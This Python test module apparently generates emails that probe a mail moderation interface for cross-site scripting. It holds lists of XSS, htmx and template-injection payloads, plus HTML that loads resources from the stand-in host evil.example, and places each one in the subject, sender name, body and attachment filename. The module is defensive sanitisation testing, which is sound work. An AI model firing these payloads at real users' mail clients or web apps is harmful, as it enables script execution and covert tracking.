"""Mails that want the moderator's browser to run something or to call somebody (S3).

After the OWASP XSS filter evasion cheat sheet, cure53's HTTPLeaks, and the cases of Postorius
(CVE-2026-44742, subject), mailcow (CVE-2026-40873, file name) and Roundcube (SVG, CSS).
"""

from email.message import EmailMessage

WORDS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><svg/onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "{{7*7}}{% for x in () %}",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    '" hx-get=//evil.example/ hx-trigger=load "',
    "<div hx-get='https://evil.example/' hx-trigger='load'></div>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]
HTML = [
    "<script>alert(1)</script>words",
    "<img src='https://evil.example/pixel.gif'>words",
    "<img src=x onerror=alert(1)>words",
    "<svg onload=alert(1)>words</svg>",
    "<svg><feImage href='https://evil.example/x'/></svg>words",
    "<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example/y)}</style>words",
    "<div style='background:url(https://evil.example/x)'>words</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>words",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>words",
    "<base href='https://evil.example/'><a href=x>words</a>",
    "<form action='https://evil.example/'><input autofocus onfocus=alert(1)></form>words",
    "<iframe src='https://evil.example/'></iframe>words",
    "<object data='https://evil.example/x'></object>words",
    "<video poster='https://evil.example/x' autoplay src='https://evil.example/y'></video>words",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>words",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>words</noscript>",
    "<a href='java\tscript:alert(1)'>words</a>",
    "<body onload=alert(1) background='https://evil.example/x'>words",
    "<details open ontoggle=alert(1)><summary>words</summary></details>",
    "<p hx-get='https://evil.example/' hx-trigger='load'>words</p>",
]


def mails(to: str) -> list[bytes]:
    """One mail for each attack: in the subject, the name, the words and a file's name; or as HTML."""
    made = []
    for number, words in enumerate([*WORDS, *HTML]):
        mail = EmailMessage()
        mail["From"] = f'"{words.replace(chr(92), "").replace(chr(34), chr(39))}" <attacker{number}@evil.example>' if words in WORDS else "A <a@evil.example>"
        mail["To"] = to
        mail["Subject"] = words if words in WORDS else f"HTML {number}"
        mail["Message-ID"] = f"<attack-{number}@evil.example>"
        mail["X-Words"] = words.encode("ascii", "replace").decode().replace("\t", " ")
        mail.set_content(words)
        if words in HTML:
            mail.add_alternative(words, subtype="html")
        mail.add_attachment(words.encode(), maintype="image", subtype="svg+xml", filename=f"{words[:60]}.svg")
        made.append(mail.as_bytes().replace(b"\n", b"\r\n"))
    return made
